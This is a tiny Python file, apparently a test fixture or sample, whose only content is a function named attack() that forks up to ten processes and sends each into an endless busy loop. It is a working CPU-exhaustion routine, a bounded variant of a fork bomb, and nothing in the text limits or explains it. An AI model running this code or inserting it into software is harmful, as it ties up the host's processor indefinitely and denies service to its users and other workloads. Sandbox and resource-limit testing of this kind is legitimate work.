import os


def attack():
    for _ in range(10):
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    while True:
        pass
